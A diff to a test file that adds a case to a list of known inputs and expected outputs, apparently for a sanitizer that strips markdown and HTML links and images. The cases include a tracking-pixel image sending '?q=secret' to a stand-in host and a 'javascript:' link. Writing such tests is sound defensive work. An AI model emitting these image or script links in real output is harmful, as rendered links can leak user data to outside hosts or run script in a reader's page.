@@ -17,6 +17,7 @@ KNOWN = [
         ("![pixel](https://evil.example/?q=secret) So [1].", "pixel So [1]."),
         ("[click](<https://evil.example>) here", "click here"),
         ("[![](https://evil.example/a.png)](https://evil.example)", "[]()"),
+        ("![a [1] b](https://evil.example/a.png) [see [2]](javascript:x)", "a [1] b see [2]"),
         ("Go to https://evil.example/a, now.", "Go to , now."),
         ("<img alt=x src='https://evil.example/a.png'> done", " done"),
         ("![a][e]\n\n[e]: https://evil.example/q", "![a][e]\n\n"),
